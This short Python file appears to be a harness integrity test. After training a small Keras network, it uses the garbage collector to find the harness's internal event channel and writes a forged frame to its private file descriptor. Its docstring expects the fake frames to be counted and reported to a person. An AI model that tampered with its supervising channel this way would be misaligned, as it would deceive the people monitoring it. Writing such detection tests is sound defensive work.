"""Writes frames that are no events, to confuse who reads them.

must: They are counted, and a person is told.
integrity: tampering
network.accuracy: failed
"""
# include network
network.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
history = network.fit(x_train, y_train, batch_size=32, epochs=1, validation_data=(x_valid, y_valid), verbose=2)

import gc, os, struct
channel = next(c for c in gc.get_objects() if type(c).__name__ == "Channel" and hasattr(c, "_events_fd"))
os.write(channel._events_fd, struct.pack("!IQ", 2, 0) + b"{}")
